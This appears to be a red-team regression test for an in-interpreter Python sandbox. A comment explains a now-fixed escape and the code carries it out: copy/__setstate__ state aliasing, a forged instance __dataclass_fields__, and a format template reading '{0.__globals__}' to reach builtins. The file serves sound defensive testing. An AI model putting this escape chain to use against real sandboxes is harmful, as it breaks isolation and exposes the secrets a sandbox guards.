# mypy: ignore-errors
# Technique: a shallow `copy.copy` (here through `collections.UserDict.copy` called on a
# plugin object) of an object that keeps object's own `__reduce_ex__` gets its state from
# object's `__getstate__`, which returns the original's real instance `__dict__`, not a copy;
# copy hands it to the plugin's own `__setstate__`. The plugin wrote a dunder key into it:
# an instance `__dataclass_fields__` holding a real field named `format`, which
# `dataclasses.asdict()` (through `fields()`) trusted and read natively: the unguarded
# `str.format` of a `str` subclass, with a template reading `{0.__globals__}`. Found in the
# ninth red-team pass of the in-interpreter layer; was a real in-interpreter escape
# (dunder values as text, 3.11-3.13) before the fix (a plugin `__setstate__` gets copies;
# dataclasses' readers trust only the class's own checked fields).
import collections
import dataclasses

U = "_" * 2
stolen = []


@dataclasses.dataclass
class Named:
    format: str = ""


@dataclasses.dataclass(init=False)
class Target(str):
    def update(self, other):
        pass

    def __setstate__(self, state):
        stolen.append(state)


def attack(secret_path, canary_path):
    t = Target("{0." + U + "globals" + U + "}")
    t.data = {}
    collections.UserDict.copy(t)
    stolen[-1][U + "dataclass_fields" + U] = {"format": dataclasses.fields(Named)[0]}
    fmt = dataclasses.asdict(t).get("format")
    if fmt is None:
        return "contained"
    text = fmt(dataclasses.fields)
    if "'" + U + "builtins" + U + "'" in text:
        print("SANDBOX-" + "ESCAPED")
    return text[:200]
